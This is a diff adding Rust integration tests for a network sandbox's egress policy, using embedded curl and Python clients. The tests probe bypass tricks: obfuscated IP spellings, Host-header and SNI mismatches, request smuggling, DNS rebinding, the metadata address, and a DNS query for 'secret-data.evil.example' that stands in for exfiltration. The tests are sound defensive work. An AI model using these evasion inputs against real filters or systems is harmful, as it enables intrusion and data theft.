@@ -1,0 +1,281 @@
+//! The network by name, with real clients, against servers in a namespace of the tests' own.
+
+mod internet;
+mod lab;
+
+use lab::{curl, possible, python, run, script};
+
+#[test]
+#[ignore = "the other tests' internet, which they start by themselves"]
+fn internet() {
+    internet::run();
+}
+
+#[test]
+fn a_granted_host_is_reached_and_no_other() {
+    if !possible() {
+        return;
+    }
+    let ran = curl("net=api.example.com", "http://api.example.com/x http://api.example.com:443/y");
+    assert_eq!(ran.out, "93.184.216.34:80 api.example.com /x\n93.184.216.34:443 api.example.com:443 /y\n");
+    assert!(ran.has("+api.example.com:80", "to 93.184.216.34:80"), "{:?}", ran.network());
+    let ran = curl("net=api.example.com", "http://other.example.org/");
+    assert_eq!((ran.code, ran.out.as_str()), (6, ""));
+    assert!(ran.has("-other.example.org", "isn't granted"), "{:?}", ran.network());
+    let ran = curl("net=api.example.com", "-L http://api.example.com/redirect");
+    assert!(ran.code == 6 && ran.has("-other.example.org", "isn't granted"), "{:?}", ran.network());
+}
+
+#[test]
+fn a_port_is_reached_only_if_it_is_granted() {
+    if !possible() {
+        return;
+    }
+    let ran = curl("net=api.example.com:8443", "http://api.example.com:8443/");
+    assert_eq!(ran.out, "93.184.216.34:8443 api.example.com:8443 /\n");
+    let ran = curl("net=api.example.com:8443,net=www.example.com:80", "http://api.example.com:80/");
+    assert!(ran.code == 56 && ran.has("-api.example.com:80", "doesn't grant"), "{:?}", ran.network());
+    assert_eq!(curl("net=api.example.com", "http://api.example.com:8443/").code, 7);
+}
+
+#[test]
+fn spellings_of_a_name_are_one_name() {
+    if !possible() {
+        return;
+    }
+    let program = r#"
+import socket
+for name in ("api.example.com", "API.Example.COM.", "bücher.example.com"):
+    s = socket.create_connection((name, 80)); s.sendall(b"ping\n"); print(s.recv(9)); s.close()
+"#;
+    let ran = python("net=Api.example.com,net=BÜCHER.example.com", program);
+    assert_eq!(ran.out, "b'ping\\n'\n".repeat(3), "{:?}", ran.network());
+    let ran = curl("net=*.example.com", "http://a.b.example.com/ http://www.example.com./");
+    assert_eq!(ran.out.lines().count(), 2, "{}", ran.out);
+    assert!(curl("net=*.example.com", "http://other.example.org/").has("-other.example.org", ""));
+}
+
+#[test]
+fn an_address_is_reached_in_every_spelling_if_it_is_granted() {
+    if !possible() {
+        return;
+    }
+    let all =
+        "http://93.184.216.34/ http://0x5db8d822/ http://[::ffff:93.184.216.34]/ http://0135.0270.0330.042/";
+    let ran = curl("net=93.184.216.34", all);
+    assert_eq!(ran.out.matches("93.184.216.34:80").count(), 4, "{}", ran.out);
+    for granted in ["net=api.example.com", "net=93.184.216.35"] {
+        assert_ne!(curl(granted, "http://93.184.216.34/").code, 0, "{granted}");
+    }
+    let ran = curl("net=93.184.216.34", "-H 'Host: other.example.org' http://93.184.216.34/");
+    assert!(ran.has("-93.184.216.34:80", "for other.example.org"), "{:?}", ran.network());
+}
+
+#[test]
+fn names_of_addresses_that_are_not_public_lead_nowhere() {
+    if !possible() {
+        return;
+    }
+    let names = ["loop", "meta", "ten", "mapped", "nat64", "bad-alias"];
+    for name in names {
+        let host = format!("{name}.example.com");
+        let ran = curl(&format!("net={host}"), &format!("http://{host}/"));
+        assert_eq!((ran.code, ran.out.as_str()), (56, ""), "{name}");
+        assert!(ran.has(&format!("-{host}:80"), "is not public"), "{:?}", ran.network());
+    }
+    let ran = curl("net=ten.example.com,net=10.0.0.1", "http://ten.example.com/");
+    assert_eq!(ran.out, "10.0.0.1:80 ten.example.com /\n");
+    let ran = curl(
+        "net=mixed.example.com,net=alias.example.com",
+        "http://mixed.example.com/ http://alias.example.com/",
+    );
+    assert_eq!(ran.out.matches("93.184.216.34:80").count(), 2, "{}", ran.out);
+}
+
+#[test]
+fn a_name_that_turns_to_a_private_address_is_refused_from_then_on() {
+    if !possible() {
+        return;
+    }
+    let ran = curl(
+        "net=turning.example.com",
+        "http://turning.example.com/1 -: --noproxy '*' -sS http://turning.example.com/2",
+    );
+    assert!(ran.out.starts_with("93.184.216.34:80"), "{}", ran.out);
+    let ran = python(
+        "net=turning.example.com",
+        r#"
+import socket
+for i in (1, 2):
+    s = socket.create_connection(("turning.example.com", 80))
+    try: s.sendall(b"ping\n"); print(s.recv(9))
+    except OSError as e: print(e.errno)
+    s.close()
+"#,
+    );
+    assert_eq!(ran.out, "b'ping\\n'\n104\n");
+    assert!(ran.has("-turning.example.com:80", "10.0.0.1 is not public"), "{:?}", ran.network());
+}
+
+#[test]
+fn a_request_or_hello_for_another_host_is_cut_off() {
+    if !possible() {
+        return;
+    }
+    let ran = curl("net=api.example.com", "-H 'Host: other.example.org' http://api.example.com/");
+    assert!(ran.code == 56 && ran.has("-api.example.com:80", "for other.example.org"), "{:?}", ran.network());
+    let hello = |name: &str| {
+        format!(
+            r#"
+import socket, ssl
+c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
+s = socket.create_connection(("api.example.com", 443))
+try: c.wrap_socket(s, server_hostname={name})
+except OSError as e: print(type(e).__name__)
+"#
+        )
+    };
+    // The server echoes the hello, which is no answer: the name has passed.
+    let ran = python("net=api.example.com", &hello("\"api.example.com\""));
+    assert_eq!(ran.out, "SSLError\n", "{:?}", ran.network());
+    for name in ["\"other.example.org\"", "None"] {
+        let ran = python("net=api.example.com", &hello(name));
+        assert_eq!(ran.out, "ConnectionResetError\n", "{name}");
+        assert!(ran.has("-api.example.com:443", "TLS"), "{:?}", ran.network());
+    }
+    let ran = python(
+        "net=api.example.com,net=93.184.216.34",
+        &hello("None").replace("api.example.com", "93.184.216.34"),
+    );
+    assert_eq!(ran.out, "SSLError\n", "{:?}", ran.network());
+    let smuggled = r#"
+import socket
+s = socket.create_connection(("api.example.com", 80))
+s.sendall(b"POST / HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
+try: print(s.recv(99))
+except OSError as e: print(e.errno)
+"#;
+    assert_eq!(python("net=api.example.com", smuggled).out, "104\n");
+}
+
+#[test]
+fn the_proxy_asks_the_same_ceiling() {
+    if !possible() {
+        return;
+    }
+    for proxy in ["http://127.0.0.1:3128", "socks5h://127.0.0.1:3128", "socks5://127.0.0.1:3128"] {
+        let fetch = |url: &str, tunnel: &str| {
+            run(
+                "sh",
+                "net=api.example.com",
+                &format!("/usr/bin/curl --noproxy '' -sS -f {tunnel} -x {proxy} {url}"),
+            )
+        };
+        for tunnel in ["", "-p"] {
+            let ran = fetch("http://api.example.com/x", tunnel);
+            assert_eq!(
+                ran.out,
+                "93.184.216.34:80 api.example.com /x\n",
+                "{proxy} {tunnel} {:?}",
+                ran.network()
+            );
+            assert_ne!(fetch("http://other.example.org/", tunnel).code, 0);
+        }
+    }
+    let ran = python(
+        "net=api.example.com",
+        "import urllib.request as u; print(u.urlopen(\"http://api.example.com/x\").read())",
+    );
+    assert!(ran.out.contains("93.184.216.34:80 api.example.com /x"), "{}", ran.out);
+    let ran = run(
+        "sh",
+        "net=api.example.com",
+        "/usr/bin/curl --noproxy '' -sS -p -x http://127.0.0.1:3128 -H 'Host: other.example.org' http://api.example.com/",
+    );
+    assert!(ran.has("-api.example.com:80", "for other.example.org"), "{:?}", ran.network());
+}
+
+#[test]
+fn a_bare_grant_reaches_every_public_host_and_port() {
+    if !possible() {
+        return;
+    }
+    let ran = curl("net", "http://other.example.org:9000/ http://93.184.216.35/ http://api.example.com:443/");
+    assert_eq!(ran.out.lines().count(), 3, "{} {:?}", ran.out, ran.network());
+    for (url, why) in [
+        ("http://203.0.114.1/", "host's own"),
+        ("http://10.0.0.1/", "not public"),
+        ("http://169.254.169.254/", "not public"),
+        ("http://ten.example.com/", "not public"),
+    ] {
+        let ran = curl("net", url);
+        assert!(
+            ran.out.is_empty()
+                && ran.network().iter().any(|line| line.starts_with('-') && line.contains(why)),
+            "{url}"
+        );
+    }
+    assert_eq!(curl("net", "http://127.0.0.1:9/").code, 7);
+}
+
+#[test]
+fn only_tcp_and_the_name_server_are_there() {
+    if !possible() {
+        return;
+    }
+    let program = r#"
+import socket
+for family, kind, proto in ((16, 3, 0), (17, 3, 0), (40, 1, 0), (38, 5, 0), (2, 3, 1), (2, 2, 1), (1, 1, 0), (1, 2, 0), (2, 1, 262)):
+    try: socket.socket(family, kind, proto); print("open", family)
+    except OSError as e: print(e.errno, end=" ")
+u = socket.socket(2, 2); u.connect(("93.184.216.34", 443))
+"#;
+    let ran = python("net=api.example.com", program);
+    assert_eq!(ran.out, "1 1 1 1 1 1 1 1 1 ");
+    assert_eq!(ran.refused_calls(), ["socket"]);
+    assert_ne!(ran.code, 0, "a datagram went somewhere");
+    let ran = python("time", "import socket; socket.socket()");
+    assert_eq!((ran.code, ran.refused_calls()), (1, vec!["socket".to_owned()]));
+}
+
+#[test]
+fn the_name_server_survives_what_is_no_question() {
+    if !possible() {
+        return;
+    }
+    let program = r#"
+import socket, struct
+def q(name, kind): return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + struct.pack(">BHH", 0, kind, 1)
+u = socket.socket(2, 2); u.settimeout(5); u.connect(("198.18.0.1", 53))
+def ask(m): u.send(m); return u.recv(9999)
+print(ask(q("api.example.com", 1))[3] & 15, ask(q("api.example.com", 16))[3:8].hex(), ask(q("secret-data.evil.example", 1))[3] & 15)
+print(ask(q("api.example.com", 1)[:20])[3] & 15)
+u.send(b"x"); u.send(b"\xff" * 9000)
+t = socket.create_connection(("198.18.0.1", 53)); m = q("api.example.com", 28)
+t.sendall(struct.pack(">H", len(m)) + m); print(t.recv(2) > b"\0", t.recv(99)[7])
+print(ask(q("API.example.com", 1))[-4:][:2])
+"#;
+    let ran = python("net=api.example.com", program);
+    assert_eq!(ran.out, "0 8000010000 5\n1\nTrue 1\nb'\\xc6\\x12'\n", "{:?}", ran.network());
+    assert!(ran.has("-secret-data.evil.example", "isn't granted"));
+}
+
+#[test]
+fn a_served_port_is_reached_from_outside_and_leads_nowhere_else() {
+    if !possible() {
+        return;
+    }
+    let server = r#"
+import socket
+s = socket.create_server(("127.0.0.1", 80)); c, a = s.accept(); c.sendall(c.recv(9)[::-1]); c.close()
+try: socket.create_connection(("93.184.216.34", 80)); print("out")
+except OSError as e: print(e.errno)
+"#;
+    let ran = script(&format!(
+        "timeout 20 \"$TW\" exec --policy python --cap-set stdout,serve=80 --report \"$LAB/report\" -- /usr/bin/python3 -c '{server}' &
+for i in $(seq 100); do echo abc | timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/80; cat >&3; cat <&3' 2>/dev/null | grep cba && break; sleep 0.1; done
+wait"
+    ));
+    assert!(ran.out.contains("cba") && !ran.out.contains("out"), "{}", ran.out);
+    assert!(ran.has("+80", "from 127.0.0.1"), "{:?}", ran.network());
+}
